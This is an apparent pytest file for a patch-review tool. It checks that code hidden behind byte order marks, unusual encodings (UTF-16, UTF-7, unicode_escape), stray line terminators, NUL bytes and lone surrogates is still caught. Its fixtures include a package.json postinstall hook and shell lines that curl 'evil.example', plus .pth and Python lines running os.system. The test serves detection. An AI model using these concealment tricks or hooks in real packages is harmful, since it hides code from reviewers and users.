"""GUARD §extract-closed: code behind bytes that readers disagree about is found, or nobody can tell."""

import pytest

from consentry.declare.patchbundle import Blob
from consentry.examine.verdict import Status
from tests.examine.attacks.reader import Attack, failures, judged

UNKNOWN_PACKAGE = "nobody-knows-this-package"

ODD = {
    "a byte order mark before a requirement": ("requirements.txt", f"\ufeff{UNKNOWN_PACKAGE}\n"),
    "requirements in another encoding": (
        "requirements.txt",
        f"\ufeff{UNKNOWN_PACKAGE}\n".encode("utf-16-le"),
    ),
    "a carriage return ends a comment": (
        "requirements.txt",
        f"attrs\r# x\r{UNKNOWN_PACKAGE}\r",
    ),
    "a form feed ends a comment": ("requirements.txt", f"attrs\n#\x0c{UNKNOWN_PACKAGE}\n"),
    "a line separator ends a comment": ("requirements.txt", f"attrs\n#\u2028{UNKNOWN_PACKAGE}\n"),
    "a vertical tab ends a comment": ("requirements.txt", f"attrs\n#\x0b{UNKNOWN_PACKAGE}\n"),
    "a next line ends a comment": ("requirements.txt", f"attrs\n#\x85{UNKNOWN_PACKAGE}\n"),
    "a byte order mark before a script": (
        "package.json",
        '\ufeff{"scripts": {"postinstall": "curl https://evil.example"}}',
    ),
    "a byte order mark before a line of a .pth": ("x.pth", "\ufeffimport os; os.system('id')\n"),
    "a carriage return ends a line of a .pth": ("x.pth", "# x\rimport os; os.system('id')\r"),
    "carriage returns in a script": ("a.sh", "echo\r\ncurl https://evil.example\r\n"),
    "a NUL byte in a script": ("a.sh", "echo\0\ncurl https://evil.example\n"),
    "a NUL byte in source": ("a.py", "#\0\nimport os\nos.system('id')\n"),
    "source in UTF-7": (
        "a.py",
        b"# -*- coding: utf-7 -*-\n#+AAo-import os+ADs- os.system('id')\n",
    ),
    "source in escapes": (
        "a.py",
        b"# -*- coding: unicode_escape -*-\n#\\nimport os; os.system('id')\n",
    ),
    "a number that is too long to write out": ("a.py", "open(f'{0x" + "f" * 5000 + "}')\n"),
    "a digit that is no number": ("a.py", "open('{²}'.format(1))\n"),
    "half of a pair": ("a.py", "import os\ngetattr(os, '\\ud800system')\nos.system('\\ud800')\n"),
}


@pytest.mark.parametrize(("path", "content"), ODD.values(), ids=ODD)
def test_odd_bytes_hide_nothing(path: str, content: str | bytes) -> None:
    """Neither a mark, an encoding nor a line end that only some readers know makes a power vanish."""
    data = content if isinstance(content, bytes) else content.encode()
    verdict = judged(Attack(path, after={path: Blob(data, "100644")}))
    assert not failures(verdict)
    assert verdict.status is not Status.PASS
